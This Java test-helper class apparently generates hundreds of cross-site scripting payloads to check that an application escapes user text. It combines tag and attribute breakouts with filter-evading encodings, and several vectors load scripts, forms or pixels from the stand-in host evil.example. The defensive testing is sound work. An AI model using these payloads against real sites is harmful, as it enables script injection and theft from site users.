package foyer.journeys;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Texts that would be scripts wherever a page took text for markup: each way to run something, broken out of each place
 * where text may stand, and spelled so that a filter might overlook it. What runs sets {@code __pwned}.
 */
final class HostileText {

    /** Out of the place where a text may stand. */
    private static final List<String> BREAKOUTS = List.of(
            "", "\">", "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "`}${", "\\\"}]");

    private static final List<String> VECTORS = List.of(
            "<img src=x onerror=__pwned=1>",
            "<svg onload=__pwned=1>",
            "<script>__pwned=1</script>",
            "<script src=//evil.example/x.js></script>",
            "<details open ontoggle=__pwned=1>",
            "<iframe srcdoc='<script>top.__pwned=1</script>'>",
            "<iframe src=javascript:top.__pwned=1>",
            "<a href=javascript:__pwned=1>x</a>",
            "<input autofocus onfocus=__pwned=1>",
            "<video><source onerror=__pwned=1></video>",
            "<body onload=__pwned=1>",
            "<form action=//evil.example><button>x",
            "<object data=//evil.example/o></object>",
            "<embed src=//evil.example/e>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;//evil.example>",
            "<link rel=stylesheet href=//evil.example/s.css>",
            "<style>@import '//evil.example/s.css'</style>",
            "<math><mtext><img src=x onerror=__pwned=1>",
            "<svg><animate onbegin=__pwned=1 attributeName=x>",
            "<template><img src=x onerror=__pwned=1>",
            "<img src=//evil.example/pixel.gif>",
            "${(()=>{__pwned=1})()}",
            "{{constructor.constructor('__pwned=1')()}}",
            "javascript:__pwned=1//",
            "<x style=animation:a onanimationstart=__pwned=1>");

    /** As somebody writes it who hopes that a filter reads otherwise than the browser does. */
    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            text -> text,
            HostileText::mixedCase,
            text -> text.replace(" on", "\ton").replace(" src", "/src"),
            text -> text.replace("<", "&lt;").replace(">", "&gt;"),
            text -> text.replace("<", "\\u003c").replace(">", "\\u003e"),
            text -> text.replace("<", "%3C").replace(">", "%3E"),
            text -> text.replace("<", "&#60;").replace("javascript", "java&#115;cript"),
            text -> text.replace("<", "\uFF1C").replace(">", "\uFF1E"),
            text -> text.replace("<", "<\u200B<"),
            text -> "\u202E" + text);

    private HostileText() {}

    /** At least two hundred, the same at each run: every breakout with every vector, the spellings in turn. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        for (int vector = 0; vector < VECTORS.size(); vector++) {
            for (int breakout = 0; breakout < BREAKOUTS.size(); breakout++) {
                UnaryOperator<String> spelling = SPELLINGS.get((vector * 3 + breakout) % SPELLINGS.size());
                all.add(BREAKOUTS.get(breakout) + spelling.apply(VECTORS.get(vector)));
            }
        }
        return List.copyOf(all);
    }

    /** As they can stand before the @ of an address: in small letters and without spaces, none of which HTML needs. */
    static List<String> inAnEmail() {
        return all().stream()
                .map(text -> text.replaceAll("[\\s@]", "/").toLowerCase(Locale.ROOT))
                .distinct()
                .toList();
    }

    /** As many in one text as fit. */
    static List<String> packed(int longest) {
        return packed(all(), longest);
    }

    static List<String> packed(List<String> texts, int longest) {
        List<String> packed = new ArrayList<>();
        StringBuilder one = new StringBuilder();
        for (String text : texts) {
            if (text.length() <= longest) {
                if (one.length() + text.length() > longest) {
                    packed.add(one.toString());
                    one.setLength(0);
                }
                one.append(text);
            }
        }
        packed.add(one.toString());
        return packed;
    }

    /** For an address. */
    static String inAddress(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** Names of elements and handlers only: the canary itself would else be another. */
    private static String mixedCase(String text) {
        return text.replace("<s", "<S").replace("<i", "<I").replace("on", "oN").replace("java", "JaVa");
    }
}
